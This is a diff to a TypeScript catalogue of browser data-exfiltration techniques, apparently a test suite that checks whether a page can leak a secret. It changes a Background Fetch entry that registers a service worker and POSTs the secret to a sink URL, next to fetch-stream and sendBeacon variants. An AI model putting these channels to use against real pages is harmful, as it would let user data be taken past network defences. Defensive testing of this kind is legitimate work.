@@ -106,14 +106,19 @@ export const BODIES: readonly Attack[] = [
     const init = { method: 'POST', headers: JSON_TYPE, body, duplex: 'half' };
     return fetch(`${secret.sink}stream`, init);
   }),
-  row('72', 'Background Fetch, body', async (secret) => {
-    const registration = await navigator.serviceWorker.register(`${secret.sink}sw/worker.js`);
-    await new Promise((resolve) => setTimeout(resolve, 300));
-    const { backgroundFetch } = registration as unknown as {
-      backgroundFetch?: { fetch(id: string, requests: Request[]): Promise<unknown> };
-    };
-    await backgroundFetch?.fetch('note', [new Request(`${secret.sink}background`, { method: 'POST', body: note(secret.text) })]);
-  }),
+  variant(
+    '72',
+    'Background Fetch, body',
+    async (secret) => {
+      const registration = await navigator.serviceWorker.register(`${secret.sink}sw/worker.js`);
+      while (!registration.active) await new Promise((resolve) => setTimeout(resolve, 50));
+      const { backgroundFetch } = registration as unknown as {
+        backgroundFetch?: { fetch(id: string, requests: Request[]): Promise<unknown> };
+      };
+      await backgroundFetch?.fetch('note', [new Request(`${secret.sink}background`, { method: 'POST', body: note(secret.text) })]);
+    },
+    { patience: 3_000 },
+  ),
   variant('8c', 'sendBeacon of URLSearchParams', (secret) =>
     navigator.sendBeacon(`${secret.sink}beacon`, new URLSearchParams({ note: secret.text })),
   ),
